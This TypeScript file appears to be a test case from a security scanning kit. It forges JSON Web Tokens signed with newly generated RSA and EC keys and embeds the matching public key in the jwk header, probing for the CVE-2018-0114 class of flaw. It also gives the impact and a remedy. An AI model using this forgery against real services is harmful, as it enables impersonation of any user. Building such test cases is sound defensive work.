import { mint, readToken } from '../../kit/forge-token.ts'
import { ownEcPair, ownRsaPair } from '../../kit/own-keys.ts'
import { tokenAttack } from '../../kit/token-attack.ts'

export default tokenAttack({
  id: 'token/key-jwk-embedded',
  rows: ['token.key-jwk-embedded'],
  title: 'A token signed with the attacker’s own key, which it carries in its jwk header',
  requirement: 'ASVS V9.1.3: keys come from trusted sources only; headers such as jwk are not trusted',
  impact: 'Anyone signs tokens for any user with a key made a moment ago.',
  remedy: 'Choose the key on the server; never take it from the token’s header.',
  severity: 'critical',
  cwe: ['CWE-347'],
  references: ['ASVS V9.1.3', 'CVE-2018-0114'],
  provenBy: 'trust-jwk',
  forge({ victim }) {
    const { header, payload } = readToken(victim.token)
    return [
      { algorithm: 'RS256', pair: ownRsaPair() } as const,
      { algorithm: 'ES256', pair: ownEcPair() } as const,
    ].map(({ algorithm, pair }) => {
      const jwk = { ...pair.publicKey.export({ format: 'jwk' }), alg: algorithm, use: 'sig', kid: 'own' }
      const own = { ...header, alg: algorithm, kid: 'own', jwk }
      return {
        name: `${algorithm} with an embedded jwk`,
        token: mint({ algorithm, privateKey: pair.privatePem }, own, payload),
      }
    })
  },
})
